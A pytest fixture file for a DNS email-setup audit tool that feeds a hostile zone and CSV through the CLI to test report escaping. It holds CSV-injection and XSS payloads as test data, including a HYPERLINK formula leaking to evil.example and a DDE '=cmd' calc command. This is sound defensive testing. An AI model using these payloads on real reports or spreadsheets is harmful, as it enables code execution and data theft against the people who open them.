"""A realistic run for the report tests: a few dozen domains, hostile DNS and input text included."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from dnsaudit.cli import main

HOSTILE_TXT_FORMULA = '=HYPERLINK("http://evil.example/?leak","click me")'
HOSTILE_TXT_SCRIPT = "<script>document.title='pwned'</script>"
ESCAPED_FORMULA = HOSTILE_TXT_FORMULA.replace('"', '\\"')
HOSTILE_ZONE = f"""
@ SOA ns hostmaster 1 3600 600 86400 300
@ MX 0 hostile-test.mail.protection.outlook.com.
@ TXT "{ESCAPED_FORMULA}"
@ TXT "v=spf1 include:spf.protection.outlook.com {HOSTILE_TXT_SCRIPT} -all"
_dmarc TXT "v=DMARC1; p=none; rua=mailto:<img src=x onerror=alert(1)>@hostile.test"
autodiscover CNAME autodiscover.outlook.com.
"""
HOSTILE_CLIENT = '=cmd|" /C calc"!A0'


@pytest.fixture(scope="session")
def report_run(dns_server, all_cases, tmp_path_factory):
    """Audit every case domain plus a hostile one through the CLI; return the output folder and JSON."""
    dns_server.add_zone_text("hostile.test.", HOSTILE_ZONE)
    work = tmp_path_factory.mktemp("report-run")
    lines = ["domain,client,cloud,phase,gateway,relay_ips,tenant,notes"]
    for i, case in enumerate(all_cases):
        client = ["Contoso", "Fabrikam", "Northwind"][i % 3]
        lines.append(",".join([case["domain"], client, case.get("cloud", ""), case.get("phase", ""),
                               case.get("gateway", ""), " ".join(case.get("relay_ips", [])),
                               case.get("tenant", ""), f"case {i}"]))
    lines.append(f'hostile.test,"{HOSTILE_CLIENT.replace(chr(34), chr(34) * 2)}",,,,,,"<b>bold</b> note"')
    lines.append("not a domain!,Contoso,,,,,,")
    csv_path = work / "domains.csv"
    csv_path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = work / "out"
    code = main(["audit", str(csv_path), "--nameserver", f"127.0.0.1:{dns_server.port}", "--timeout", "3",
                 "--retries", "1", "--out", str(out), "--split-by", "client", "--quiet", "--no-probes"])
    assert code == 2  # the bad row; everything else was audited and reported
    data = json.loads((out / "results.json").read_text(encoding="utf-8"))
    return out, data


@pytest.fixture(scope="session")
def results_json(report_run) -> dict:
    return report_run[1]


@pytest.fixture(scope="session")
def out_dir(report_run) -> Path:
    return report_run[0]


@pytest.fixture(scope="session")
def hostile() -> dict:
    return {"formula": HOSTILE_TXT_FORMULA, "script": HOSTILE_TXT_SCRIPT, "client": HOSTILE_CLIENT}
